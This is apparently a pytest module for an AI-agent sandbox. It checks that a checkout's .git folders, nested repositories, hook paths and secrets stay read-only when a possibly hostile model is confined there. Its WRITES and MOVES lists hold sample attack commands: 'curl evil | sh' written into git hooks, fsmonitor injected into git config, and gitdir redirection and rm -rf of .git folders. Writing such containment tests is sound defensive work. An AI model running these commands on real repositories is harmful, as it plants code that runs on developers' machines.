"""One shape of test for a checkout's read-only paths, run on every back-end that sees a checkout:
:class:`ReadOnlyPaths`, whose subclasses (``tests/sandbox/test_read_only_paths.py`` on Docker,
``tests/k8s/test_read_only_paths.py`` on Kubernetes) say how to open a session. It checks the real
effect inside the sandbox (a write fails as the kernel refuses it: "Read-only file system") and on
the host (what was planted is byte for byte what it was, after the session closed — a Kubernetes
session copies back then)."""

from __future__ import annotations

import os
from collections.abc import Callable
from contextlib import AbstractAsyncContextManager
from pathlib import Path

import pytest

from policies.engine import load_policy
from sandbox import protected
from sandbox.base import Session
from sandbox.patch import v4a
from sandbox.patch.apply import apply_operations
from sandloop.errors import PathRefused, SandboxError
from sandloop.verdict import Decision, Verdict

#: Opens a session on a checkout whose read-only paths are ``.git`` and ``secrets``.
Opener = Callable[[Path], AbstractAsyncContextManager[Session]]
READ_ONLY = (".git", "secrets")

HOOK = b"#!/bin/sh\nexit 0\n"
CONFIG = b"[core]\n\trepositoryformatversion = 0\n\thooksPath = .husky\n"
NESTED_CONFIG = b"[core]\n\trepositoryformatversion = 0\n"

#: Each: a command a hostile model could run, and the file it aims at.
WRITES = [
    ("echo 'curl evil | sh' > .git/hooks/pre-commit", ".git/hooks/pre-commit"),
    ("printf '[core]\\n\\tfsmonitor = evil\\n' >> .git/config", ".git/config"),
    ("echo 'curl evil | sh' > .husky/pre-commit", ".husky/pre-commit"),  # core.hooksPath
    ("echo 'gitdir: /tmp/evil' > lib/.git", "lib/.git"),  # a submodule
    ("echo stolen > secrets/key", "secrets/key"),  # the policy's own
    ("echo 'curl evil | sh' > vendor/dep/.git/hooks/post-checkout", "vendor/dep/.git/hooks/post-checkout"),
    ("printf '[core]\\n\\tfsmonitor = evil\\n' >> vendor/dep/.git/config", "vendor/dep/.git/config"),
    ("chmod 777 vendor/dep/.git/config", "vendor/dep/.git/config"),
    ("echo 'gitdir: /tmp/evil' > tools/worktree/.git", "tools/worktree/.git"),  # a .git file, not a submodule
    ("echo 'curl evil | sh' > deep/a/b/c/.git/hooks/pre-push", "deep/a/b/c/.git/hooks/pre-push"),
]
#: Refused too, by the kernel, though not always as a read-only file system (a mount point is busy).
MOVES = ["rm -rf vendor/dep/.git", "mv vendor/dep/.git vendor/dep/.git-moved", "rm -f tools/worktree/.git",
         "mv .git .git-moved"]


def own(root: Path) -> None:
    """The checkout belongs to uid 1000, like a laptop user's (we made it, so chown is ours)."""
    for path in [root, *root.rglob("*")]:
        os.chown(path, 1000, 1000, follow_symlinks=False)


def plant(ws: Path) -> dict[str, bytes]:
    """A checkout with a hook and a config in every kind of ``.git`` (its own, a submodule's, a
    vendored repository's, a worktree's ``.git`` file, one four folders down), a hooks path, a
    read-only path of the policy; what the host holds there, to compare after."""
    files = {
        ".git/config": CONFIG, ".git/HEAD": b"ref: refs/heads/main\n", ".git/hooks/pre-commit": HOOK,
        ".git/modules/lib/config": NESTED_CONFIG, ".husky/pre-commit": HOOK,
        ".gitmodules": b'[submodule "lib"]\n\tpath = lib\n\turl = ../lib.git\n',
        "lib/.git": b"gitdir: ../.git/modules/lib\n", "lib/src.txt": b"lib\n", "secrets/key": b"s3cret\n",
        "vendor/dep/.git/config": NESTED_CONFIG, "vendor/dep/.git/hooks/post-checkout": HOOK,
        "vendor/dep/index.js": b"1\n",
        "tools/worktree/.git": b"gitdir: /home/someone/repo/.git/worktrees/wt\n",
        "deep/a/b/c/.git/config": NESTED_CONFIG, "deep/a/b/c/.git/hooks/pre-push": HOOK,
        "src/a.txt": b"a\n",
    }
    for rel, data in files.items():
        (ws / rel).parent.mkdir(parents=True, exist_ok=True)
        (ws / rel).write_bytes(data)
    own(ws)
    return {rel: data for rel, data in files.items() if not rel.startswith(("src/", "lib/src", "vendor/dep/index"))}


def unchanged(ws: Path, before: dict[str, bytes]) -> None:
    after = {rel: (ws / rel).read_bytes() if (ws / rel).is_file() else None for rel in before}
    assert after == before
    assert not any(ws.rglob(".git-moved")) and not (ws / "vendor" / "dep" / ".git-moved").exists()


async def writes_are_refused(open_session: Opener, ws: Path) -> None:
    """Every command writing into a read-only path fails as on a read-only mount; the rest of the
    checkout stays writable; the host's files are what they were."""
    before = plant(ws)
    found = {p.relative_to(ws).as_posix() for p in protected.find(ws, READ_ONLY).paths}
    assert found == {".git", ".husky", "lib/.git", "secrets", "vendor/dep/.git", "tools/worktree/.git",
                     "deep/a/b/c/.git"}
    async with open_session(ws) as session:
        for command, target in WRITES:
            r = await session.run(command)
            assert r.exit_code != 0 and "Read-only file system" in r.stderr.text, (command, r.stderr.text)
            assert (await session.read_file(target)) == before[target], command
        for command in MOVES:
            r = await session.run(command)
            assert r.exit_code != 0 and ("Read-only file system" in r.stderr.text or "busy" in r.stderr.text), \
                (command, r.stderr.text)
        r = await session.run("echo b >> src/a.txt && echo new > vendor/dep/new.js && cat src/a.txt")
        assert r.stdout.text == "a\nb\n"
    unchanged(ws, before)
    assert (ws / "src" / "a.txt").read_text() == "a\nb\n" and (ws / "vendor" / "dep" / "new.js").read_text() == "new\n"


async def patches_are_refused(open_session: Opener, ws: Path) -> None:
    """A patch into a nested repository's ``.git``: refused by the default policy; and where a
    policy would let it through, the sandbox refuses to write it."""
    before = plant(ws)
    engine = load_policy("default")
    for path in ("vendor/dep/.git/config", "tools/worktree/.git/x", "deep/a/b/c/.git/hooks/pre-push"):
        assert engine.patch(path, "update_file").decision is Decision.DENY, path
    op = v4a.from_api("update_file", "vendor/dep/.git/config",
                      "@@\n [core]\n \trepositoryformatversion = 0\n+\tfsmonitor = evil\n")

    async def allow(path: str, kind: str) -> Verdict:
        return Verdict(Decision.ALLOW, "a policy that leaves nested repositories writable", "test", None)

    async with open_session(ws) as session:
        with pytest.raises(PathRefused, match="read-only"):  # the patch's own check: **/.git/** by default
            await apply_operations(session, [op], allow=allow, read_only_globs=("**/.git/**",))
        with pytest.raises(SandboxError, match="Read-only file system"):  # the sandbox's
            await apply_operations(session, [op], allow=allow, read_only_globs=())
        assert await session.read_file("vendor/dep/.git/config") == NESTED_CONFIG
    unchanged(ws, before)


async def links_are_not_followed(open_session: Opener, ws: Path, outside: Path) -> None:
    """A symlink to a folder holding a ``.git`` — outside the checkout, or inside it — is never
    followed: nothing outside is protected, mounted or sent, and what is inside is protected
    once, where it really is."""
    (outside / ".git" / "hooks").mkdir(parents=True)
    (outside / ".git" / "config").write_bytes(NESTED_CONFIG)
    (ws / "vendor" / "dep" / ".git").mkdir(parents=True)
    (ws / "vendor" / "dep" / ".git" / "config").write_bytes(NESTED_CONFIG)
    (ws / "elsewhere").symlink_to(outside)
    (ws / "alias").symlink_to("vendor/dep")
    own(ws)
    found = [p.relative_to(ws).as_posix() for p in protected.find(ws, READ_ONLY).paths]
    assert found == ["vendor/dep/.git"]
    async with open_session(ws) as session:
        r = await session.run("ls -A elsewhere/ 2>&1; cat elsewhere/.git/config 2>&1; echo x > elsewhere/.git/y")
        assert "repositoryformatversion" not in r.stdout.text  # nothing of it reached the sandbox
        r = await session.run("echo 'curl evil | sh' > alias/.git/hooks-post")
        assert r.exit_code != 0 and "Read-only file system" in r.stderr.text
    assert sorted(p.name for p in (outside / ".git").iterdir()) == ["config", "hooks"]
    assert not (ws / "vendor" / "dep" / ".git" / "hooks-post").exists()


async def past_the_bound(open_session: Opener, ws: Path, monkeypatch: pytest.MonkeyPatch,
                         caplog: pytest.LogCaptureFixture) -> Path:
    """Past the search's depth bound a nested ``.git`` is not protected, and one warning line says
    which bound stopped it and the first folder left unscanned; above it, as always. Returns the
    deep ``.git``'s config (written in the sandbox) for the back-end to judge."""
    monkeypatch.setattr(protected, "MAX_DEPTH", 2)
    for rel in ("a/.git", "a/b/c/d/.git"):
        (ws / rel).mkdir(parents=True)
        (ws / rel / "config").write_bytes(NESTED_CONFIG)
    own(ws)
    async with open_session(ws) as session:
        shallow = await session.run("echo evil >> a/.git/config")
        assert shallow.exit_code != 0 and "Read-only file system" in shallow.stderr.text
        deep = await session.run("echo evil >> a/b/c/d/.git/config")
        assert deep.exit_code == 0, deep.stderr.text  # as documented: past the bound, not protected
    warnings = [r.getMessage() for r in caplog.records if r.name == "sandloop.protected"]
    assert len(warnings) == 1, warnings
    assert "the depth bound (2 folder levels): a/b/c/ and every folder as deep was not scanned" in warnings[0]
    assert "name it in [files] read_only" in warnings[0]
    assert (ws / "a" / ".git" / "config").read_bytes() == NESTED_CONFIG
    return ws / "a" / "b" / "c" / "d" / ".git" / "config"


class ReadOnlyPaths:
    """The tests; a subclass (named ``Test…``) gives the fixtures ``opener`` and ``deep_on_host``
    (what the host holds, after the session, of a nested ``.git`` written past the search's
    bound)."""

    async def test_writes_into_read_only_paths_are_refused(self, opener: Opener, user_workspace: Path) -> None:
        await writes_are_refused(opener, user_workspace)

    async def test_patches_into_a_nested_repository_are_refused(self, opener: Opener, user_workspace: Path) -> None:
        await patches_are_refused(opener, user_workspace)

    async def test_links_to_repositories_are_not_followed(self, opener: Opener, user_workspace: Path,
                                                          tmp_path: Path) -> None:
        await links_are_not_followed(opener, user_workspace, tmp_path / "outside")

    async def test_past_the_search_bound_a_nested_repository_is_writable_and_said(
            self, opener: Opener, user_workspace: Path, monkeypatch: pytest.MonkeyPatch,
            caplog: pytest.LogCaptureFixture, deep_on_host: bytes) -> None:
        deep = await past_the_bound(opener, user_workspace, monkeypatch, caplog)
        assert deep.read_bytes() == deep_on_host
